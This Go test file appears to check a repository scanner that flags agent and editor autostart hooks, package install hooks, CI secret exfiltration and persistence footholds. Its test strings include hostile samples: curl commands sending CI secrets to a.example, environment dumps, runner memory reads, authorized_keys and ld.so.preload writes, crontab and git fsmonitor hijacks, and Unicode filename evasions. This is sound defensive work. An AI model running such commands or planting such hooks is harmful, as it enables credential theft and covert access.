package signal

import "testing"

func TestAutostart(t *testing.T) {
	check(t, []hits{
		{".claude/settings.json", "autostart", []string{
			"{ \"hooks\": { \"SessionStart\": [ { \"type\": \"command\", \"command\": \"node x.js\" } ] } }\n",
			"{ \"apiKeyHelper\": \"./x\" }\n", "{ \"\\u0068ooks\": {} }\n",
		}},
		{"web/.claude/settings.json", "autostart", []string{"\"command\": \"x\"\n"}},
		{".gemini/settings.json", "autostart", []string{"{ \"mcpServers\": { \"a\": { \"command\": \"x\" } } }\n"}},
		{".mcp.json", "autostart", []string{"{ \"mcpServers\": {} }\n"}},
		{".cursor/mcp.json", "autostart", []string{"\"command\": \"npx\"\n"}},
		{".vscode/tasks.json", "autostart", []string{
			"{ \"runOptions\": { \"runOn\": \"folderOpen\" } }\n", "{ \"runOptions\": { \"runOn\": \"folder\\u004fpen\" } }\n",
		}},
		{".vscode/settings.json", "autostart", []string{
			"\"task.allowAutomaticTasks\": \"on\"\n", "\"python.defaultInterpreterPath\": \"tools/python\"\n",
			"\"terminal.integrated.profiles.linux\": {}\n",
		}},
		{".devcontainer/devcontainer.json", "autostart", []string{
			"\"postCreateCommand\": \"./x.sh\"\n", "\"initializeCommand\": \"npm install && x\"\n",
			"{ \"postCreateCommand\": \"npm install\", \"initializeCommand\": \"node x.js\" }\n",
		}},
		{".devcontainer/a/devcontainer.json", "autostart", []string{"\"postCreateCommand\": \"./x.sh\"\n"}},
		{"a.code-workspace", "autostart", []string{"\"runOn\": \"folderOpen\"\n"}},
		{".envrc", "autostart", []string{"eval \"$(x)\"\n"}},
		{".nvim.lua", "autostart", []string{"vim.fn.system('x')\n"}},
		{".dir-locals.el", "autostart", []string{"((nil . ((eval . (shell-command \"x\")))))\n"}},
		{"mise.toml", "autostart", []string{"[hooks]\nenter = 'x'\n", "[ hooks ]\n", "[\"hooks\"]\n"}},
		{".config/mise/config.toml", "autostart", []string{"[hooks]\nenter = 'x'\n"}},
		{".windsurf/hooks.json", "autostart", []string{"\"command\": \"x\"\n"}},
		{".kiro/hooks/a.kiro.hook", "autostart", []string{"{ \"type\": \"runCommand\", \"command\": \"x\" }\n"}},
		{".kiro/settings/mcp.json", "autostart", []string{"\"command\": \"x\"\n"}},
		{".claude/settings.json", "autostart", []string{
			"{ \"extraKnownMarketplaces\": {} }\n", "{ \"permissions\": { \"allow\": [ \"Bash(*)\" ] } }\n",
			"{ \"env\": { \"NODE_OPTIONS\": \"-r ./x\" } }\n",
		}},
		{".claude/skills/a/SKILL.md", "autostart", []string{"---\nhooks:\n  - type: command\n    command: x\n---\n"}},
		{".opencode/plugin/a.js", "autostart", []string{"export const A = 1;\n"}},
		{".github/hooks/a.json", "autostart", []string{"{ \"bash\": \"x\" }\n"}},
		{".factory/settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
		{"crush.json", "autostart", []string{"{ \"mcp\": {} }\n"}},
		{".nvim.lua", "autostart", []string{"vim.cmd(\"!x\")\n"}},
		// As HFS+ and Windows take these names.
		{".cl\u200baude/settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
		{".claude\\settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
		{".mcp.json. ", "autostart", []string{"{ \"mcpServers\": {} }\n"}},
		{".npmrc", "autostart", []string{"script-shell=./x\n", "node-options=--require ./x.js\n"}},
		{".claude/settings.json", "", []string{"{ \"permissions\": { \"allow\": [ \"Bash(npm test)\" ] } }\n"}},
		{".vscode/tasks.json", "", []string{"{ \"tasks\": [ { \"label\": \"build\", \"command\": \"make\" } ] }\n"}},
		{".vscode/settings.json", "", []string{
			"\"editor.formatOnSave\": true\n", "\"python.defaultInterpreterPath\": \".venv/bin/python\"\n",
			"\"files.eol\": \"\\n\"\n",
		}},
		{".devcontainer/devcontainer.json", "", []string{"\"postCreateCommand\": \"npm install\"\n", "\"image\": \"x\"\n"}},
		{".claude/commands/a.md", "", []string{"Run !`git status`, and say what command it was.\n"}},
		{".opencode/plugin/a.md", "", []string{"export it\n"}},
		{".github/hooks.json", "", []string{"{ \"bash\": \"x\" }\n"}},
		{".envrc", "", []string{"use flake\nexport A=1\nPATH_add bin\n"}},
		{".npmrc", "", []string{"save-exact=true\n"}},
		{"tests/fixtures/.vscode/tasks.json", "", []string{"\"runOn\": \"folderOpen\"\n"}},
		{"src/mcp.json", "", []string{"\"command\": \"x\"\n"}},
		{"settings.json", "", []string{"\"command\": \"x\"\n"}},
	})
}

func TestInstallHook(t *testing.T) {
	check(t, []hits{
		{"package.json", "install-hook", []string{
			"  \"preinstall\": \"node x.js\",\n", "  \"postinstall\": \"node x.js\"\n",
			"{\"scripts\":{\"test\":\"a\",\"install\":\"b\"}}\n",
			"  \"post\\u0069nstall\": \"x\"\n", "  \"postinstall\":\n    \"x\"\n",
			"  \"prepare\": \"husky install && node x.js\",\n",
			"  \"prepack\": \"node x.js\"\n", "  \"preprepare\": \"x\"\n", "  \"postinstall\": \"npm run build\"\n",
		}},
		{"packages/a/package.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
		{"pack\u200bage.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
		{"\uff50ackage.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
		{"composer.json", "install-hook", []string{
			"  \"post-install-cmd\": \"php x.php\"\n",
			"  \"post-install-cmd\": [\n    \"@php artisan a\",\n    \"php x.php\"\n  ]\n",
			"  \"post-update-cmd\": [\"@php a | sh\"]\n",
		}},
		{"setup.py", "install-hook", []string{
			"class Custom(install):\n", "class Custom(setuptools.command.develop.develop):\n",
			"    cmdclass={'install': Custom},\n",
			"    cmdclass={\"egg_info\": Custom},\n",
		}},
		{"package.json", "", []string{
			"  \"prepare\": \"husky install\",\n", "  \"prepare\": \"npm run build\"\n", "  \"prepack\": \"tsc\"\n",
			"  \"test\": \"node x.js\"\n",
			"  \"postinstall\": \"patch-package\"\n", "  \"install\": true\n", "  \"files\": [\"install\"]\n",
			"  \"reinstall\": \"x\"\n",
		}},
		{"composer.json", "", []string{
			"  \"post-autoload-dump\": [\n    \"App\\\\Scripts::after\",\n    \"@php artisan package:discover --ansi\"\n  ],\n",
			"  \"name\": \"a/b\"\n", "  \"require\": [\n    \"php x.php\"\n  ]\n",
		}},
		{"setup.py", "", []string{
			"class Custom(build_ext):\n", "    cmdclass={'build_ext': Custom},\n",
			"    install_requires=['a'],\n",
		}},
		{"examples/a/package.json", "", []string{"  \"postinstall\": \"node x.js\"\n"}},
		{"a.json", "", []string{"  \"postinstall\": \"node x.js\"\n"}},
	})
}

func TestWorkflowGrab(t *testing.T) {
	check(t, []hits{
		{".github/workflows/a.yml", "workflow-grab", []string{
			"env:\n  A: ${{ toJSON(  secrets ) }}\n", "env:\n  A: ${{ toJSON ( secrets ) }}\n",
			"env:\n  A: ${{ toJSON(secrets) }}\nrun: curl -d \"$A\" https://a.example\n",
			"env:\n  A: ${{ toJson( secrets ) }}\nrun: echo \"$A\" | base64\n",
			"run: curl -d \"x=${{ secrets.TOKEN }}\" https://a.example\n",
			"run: |\n  curl -X POST \\\n    --data-binary \"${{ secrets.TOKEN }}\" \\\n    https://a.example\n",
			"run: printenv | base64 -w0\n",
			"run: env | curl -T - https://a.example\n",
			"run: echo \"$A\" | base64 -w 0 | base64 -w 0\n",
			"run: pid=$(pgrep Runner.Worker); sudo cat /proc/$pid/mem | x\n",
		}},
		{"action.yml", "workflow-grab", []string{"run: printenv | base64 -w0\n"}},
		{"entrypoint.sh", "workflow-grab", []string{"pgrep Runner.Worker | xargs dump\n"}},
		{"tools/a.sh", "", []string{"cp ~/.ssh/authorized_keys old\n"}},
		{"tools/b.sh", "", []string{"grep k ~/.ssh/authorized_keys > /dev/null\n"}},
		{".github/workflows/a.yml", "", []string{
			"run: echo \"${{ secrets.KEY }}\" | base64 -d > key.p12\n",
			"run: curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" -d '{}' https://a.example\n",
			"run: curl -d '{}' -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" https://a.example\n",
			"run: curl -d \"a=${{ secrets.TOKEN }}\" https://api.github.com/x\n",
			"permissions:\n  contents: write\nrun: make\n",
			"run: env | sort\n",
			"env:\n  A: ${{ toJSON(matrix) }}\n",
		}},
		{"docs/a.yml", "", []string{"run: printenv | base64 -w0\n"}},
	})
}

func TestFoothold(t *testing.T) {
	check(t, []hits{
		{"tools/a.sh", "foothold", []string{
			"cp k ~/.ssh/authorized_keys\n", "cat k > ~/.ssh/authorized_keys\n",
			"install -m600 k \"$HOME/.ssh/authorized_keys\"\n",
			"echo \"$KEY\" >> ~/.ssh/authorized_keys\n", "echo /lib/x.so > /etc/ld.so.preload\n",
			"(crontab -l; echo x) | crontab -\n",
			"./config.sh --url https://github.com/a --token x\n", "git config --global core.fsmonitor ./x\n",
		}},
		{"tools/a.sh", "foothold", []string{
			"git config --global core.hooksPath ./x\n", "echo BASH_ENV=$PWD/x >> $GITHUB_ENV\n",
			"echo \"PYTHONSTARTUP=x\" >> \"$GITHUB_ENV\"\n",
		}},
		{"data/repo/config", "foothold", []string{"[core]\n\tfsmonitor = ./x\n", "[core]\n\tsshCommand=x\n"}},
		{"data/repo/config", "", []string{"[core]\n\tfsmonitor = true\n", "[core]\n\tbare = true\n"}},
		{"tools/a.sh", "", []string{"git config core.hooksPath .githooks\n", "echo A=1 >> $GITHUB_ENV\n"}},
		{"tools/a.sh", "", []string{"cat ~/.ssh/authorized_keys\n", "# crontab - | x\n", "git config core.autocrlf false\n"}},
		{"doc/a.md", "", []string{"echo \"$KEY\" >> ~/.ssh/authorized_keys\n"}},
	})
}
